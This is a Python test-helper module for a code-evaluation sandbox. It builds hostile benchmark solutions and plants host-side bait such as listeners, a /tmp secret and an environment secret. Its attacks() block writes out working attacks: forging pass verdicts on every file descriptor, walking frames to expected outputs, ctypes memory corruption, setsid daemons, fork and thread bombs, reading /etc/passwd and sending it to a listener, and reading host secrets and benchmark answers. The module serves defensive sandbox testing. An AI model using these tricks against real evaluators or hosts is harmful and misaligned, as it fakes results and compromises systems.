"""Helpers of the sandbox tests: hostile solutions, host-side bait, process markers."""

from __future__ import annotations

import os
import secrets
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import psutil

from evaluations.engines.evalplus_engine import load_problems
from evaluations.sandbox.limits import SandboxLimits

REPO = Path(__file__).resolve().parents[1]
DATA_DIR = Path(os.environ.get("WORKBENCH_DATA_DIR", REPO.parent / "shared" / "benchmarks"))
DATA = DATA_DIR / "humaneval" / "HumanEvalPlus.jsonl.gz"
MARKER = f"WBHOSTILE{secrets.token_hex(6)}"  # in argv/env of every process an attack starts
IMPORTS = "import os, sys, io"  # io.open: EvalPlus's guard sets builtins.open to None
LIMITS = SandboxLimits(memory_bytes=1024**3, workers=2, output_bytes=8 * 1024**2)

CORRECT = ("any(abs(a - b) < threshold for i, a in enumerate(numbers)\n"
           "               for j, b in enumerate(numbers) if i != j)")


def hostile(attack: str, imports: str = "import os, sys") -> str:
    """HumanEval/0 whose answer is right only when ``attack`` (a block that sets
    ``ok``) worked. Everything is inside the entry point: EvalPlus's sanitizer keeps
    only the function."""
    body = "\n".join("        " + line for line in attack.strip("\n").splitlines())
    return (f"def has_close_elements(numbers, threshold):\n    {imports}\n    ok = False\n"
            f"    try:\n{body}\n    except BaseException:\n        ok = False\n"
            f"    if not ok:\n        return None\n    return {CORRECT}\n")


def canonical(task: str) -> str:
    problem = load_problems("humaneval", DATA)[task]
    return problem["prompt"] + problem["canonical_solution"]


def marked_processes() -> list[psutil.Process]:
    """Processes whose command line or environment carries this run's marker."""
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        try:
            text = " ".join(proc.info["cmdline"] or [])
            if MARKER not in text:
                text += " ".join(f"{k}={v}" for k, v in proc.environ().items())
            if MARKER in text and proc.pid != os.getpid():
                found.append(proc)
        except (psutil.NoSuchProcess, psutil.AccessDenied, psutil.ZombieProcess):
            continue
    return found


# ---------------------------------------------------------------- host-side listeners
class Listeners:
    """UDP (echo), TCP, pathname and abstract UNIX listeners on the host that record
    every byte they receive; an attack succeeds from inside only if one answers."""

    def __init__(self, folder: Path, tag: str) -> None:
        self.received: dict[str, list[bytes]] = {k: [] for k in ("udp", "tcp", "unix", "abstract")}
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.unix_path = str(folder / "listener.sock")
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.unix_path)
        self.unix.listen(8)
        self.abstract_name = f"\0{MARKER}-abstract-{tag}"
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind(self.abstract_name)
        self.abstract.listen(8)
        for sock in (self.udp, self.tcp, self.unix, self.abstract):
            sock.settimeout(0.2)
        self.stop = threading.Event()
        self.threads = [threading.Thread(target=self._udp, daemon=True)] + [
            threading.Thread(target=self._stream, args=(name, sock), daemon=True)
            for name, sock in (("tcp", self.tcp), ("unix", self.unix), ("abstract", self.abstract))]
        for thread in self.threads:
            thread.start()

    def _udp(self) -> None:
        while not self.stop.is_set():
            try:
                data, peer = self.udp.recvfrom(65536)
            except (TimeoutError, OSError):
                continue
            self.received["udp"].append(data)
            self.udp.sendto(b"echo:" + data, peer)

    def _stream(self, name: str, sock: socket.socket) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = sock.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received[name].append(conn.recv(65536))
                    conn.sendall(b"hello")
                except OSError:
                    pass

    @property
    def udp_port(self) -> int:
        return self.udp.getsockname()[1]

    @property
    def tcp_port(self) -> int:
        return self.tcp.getsockname()[1]

    def close(self) -> None:
        self.stop.set()
        for thread in self.threads:
            thread.join(timeout=2)
        for sock in (self.udp, self.tcp, self.unix, self.abstract):
            sock.close()


def bait(folder: Path, tag: str) -> Iterator[dict]:
    """The host-side bait: listeners, a secret in the host's /tmp, a file in the host's
    /dev/shm and a secret in the evaluator's environment."""
    listeners = Listeners(folder, tag)
    secret = folder / "secret.txt"
    secret.write_text(MARKER)
    shm_bait = Path(f"/dev/shm/{MARKER}-{tag}")
    shm_bait.write_text(MARKER)
    os.environ[f"WORKBENCH_TEST_SECRET_{tag}"] = MARKER
    try:
        yield {"listeners": listeners, "secret": secret, "shm_bait": shm_bait}
    finally:
        os.environ.pop(f"WORKBENCH_TEST_SECRET_{tag}", None)
        shm_bait.unlink(missing_ok=True)
        listeners.close()


def attacks(host: dict) -> dict[str, str]:
    """label -> attack block (sets ``ok`` when it worked)."""
    lst: Listeners = host["listeners"]
    forged = ('{"i":0,"type":"builtins.bool","out":true}\\n{"done":true}\\n'
              '{"task_id":"HumanEval/0","statuses":[["pass","pass"]]}\\n')
    return {
        # --- verdict integrity
        "forge records on every fd": f"""
for fd in range(0, 256):
    try:
        os.write(fd, b'{forged}' * 3)
    except OSError:
        pass
ok = False  # the answer stays wrong: only a forged verdict could pass it
""",
        "frame walk to expected outputs / verdict state": """
frame, found = sys._getframe(), None
while frame is not None:
    for name in ("expected", "exp", "wanted", "oracle"):
        value = frame.f_locals.get(name)
        if isinstance(value, (list, dict)) and value:
            found = value
    for name in ("stat", "details", "progress"):
        if name in frame.f_locals:
            found = found or frame.f_locals[name]
    frame = frame.f_back
ok = found is not None
""",
        "ctypes.memmove over the interpreter, then forged done": """
import ctypes, gc
ctypes.memmove(id(0) + 24, id(1) + 24, 4)  # small int 0 now reads as 1 in here
for obj in gc.get_objects():
    if type(obj).__name__ == "Channel":
        obj.send({"done": True})
ok = (0 == 1) and False
""",
        "flood the records fd past its cap": """
for fd in range(3, 1024):
    try:
        for _ in range(40):
            os.write(fd, b"x" * (1 << 20))
    except OSError:
        pass
ok = False
""",
        # --- processes
        "_posixsubprocess.fork_exec setsid daemon": f"""
import _posixsubprocess
r, w = os.pipe()
pid = _posixsubprocess.fork_exec(
    [b"/bin/sh", b"-c", b"sleep 300 & sleep 300", b"{MARKER}"], [b"/bin/sh"], True, (),
    None, [b"WB_MARKER={MARKER}"], -1, -1, -1, -1, -1, -1, r, w, False, True, -1,
    None, None, None, -1, None, False)
ok = pid > 0
""",
        "setsid double-fork daemon (posix.fork)": f"""
import posix
pid = posix.fork()
if pid == 0:
    posix.setsid()
    if posix.fork() == 0:
        posix.execve("/bin/sh", ["/bin/sh", "-c", "sleep 300", "{MARKER}"], {{"WB_MARKER": "{MARKER}"}})
    posix._exit(0)
ok = pid > 0
""",
        "ctypes libc fork()": """
import ctypes
pid = ctypes.CDLL(None).fork()
if pid == 0:
    ctypes.CDLL(None)._exit(0)
ok = pid > 0
""",
        "fork bomb": """
import posix
children = 0
for _ in range(10000):
    if posix.fork() == 0:
        while True:
            pass
    children += 1
ok = children > 100
""",
        "thread bomb": """
import threading, time
started = 0
for _ in range(300):  # plain EvalPlus's 1 GiB-4 GiB address space allows a few hundred
    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    started += 1
ok = started > 100
""",
        "unshare a user namespace (ctypes)": """
import ctypes
ok = ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == 0  # CLONE_NEWUSER
""",
        "sees host processes": """
names = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            names.append(io.open(f"/proc/{pid}/cmdline", "rb").read())
        except OSError:
            pass
ok = any(b"pytest" in n for n in names)
""",
        # --- privilege
        "SCHED_FIFO": "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))\nok = True",
        "setpriority(-20)": "os.setpriority(os.PRIO_PROCESS, 0, -20)\nok = True",
        # --- network
        "UDP to a host listener": f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.3)
payload = io.open("/etc/passwd", "rb").read() if os.path.exists("/etc/passwd") else b""
s.sendto(b"{MARKER}" + payload, ("127.0.0.1", {lst.udp_port}))
ok = s.recvfrom(100)[0].startswith(b"echo:")
""",
        "TCP to a host listener": f"""
import socket
s = socket.create_connection(("127.0.0.1", {lst.tcp_port}), timeout=0.3)
s.sendall(b"{MARKER}")
ok = s.recv(5) == b"hello"
""",
        "pathname UNIX socket of the host": f"""
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.settimeout(0.3)
s.connect({lst.unix_path!r})
s.sendall(b"{MARKER}")
ok = s.recv(5) == b"hello"
""",
        "abstract UNIX socket of the host": f"""
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.settimeout(0.3)
s.connect({lst.abstract_name!r})
s.sendall(b"{MARKER}")
ok = s.recv(5) == b"hello"
""",
        # --- files
        "/dev/shm: read the host's, write 100 MB": f"""
ok = os.path.exists({str(host["shm_bait"])!r})
wrote = 0
try:
    with io.open("/dev/shm/{MARKER}-sandbox", "wb") as f:
        for _ in range(100):
            f.write(b"x" * (1 << 20))
            wrote += 1
except OSError:
    pass
ok = ok or wrote == 100
""",
        "read a secret in the host's /tmp": f"ok = io.open({str(host['secret'])!r}).read() == {MARKER!r}",
        "read the benchmark data (canonical solutions)": f"ok = len(io.open({str(DATA)!r}, 'rb').read()) > 0",
        "read the repository": f"ok = len(io.open({str(REPO / 'pyproject.toml')!r}, 'rb').read()) > 0",
        "secret in the environment": f"""
env = dict(os.environ)
for pid in ("1", "self"):
    try:
        env["/proc"] = io.open(f"/proc/{{pid}}/environ", "rb").read().decode()
    except OSError:
        pass
ok = {MARKER!r} in repr(env)
""",
        "write outside the private /tmp": f"""
io.open({str(REPO / ('ESCAPE_' + MARKER))!r}, "w").write("x")
ok = True
""",
        # --- output
        "flood stdout and stderr": """
for _ in range(100):
    os.write(1, b"o" * (1 << 20))
    os.write(2, b"e" * (1 << 20))
ok = False
""",
    }


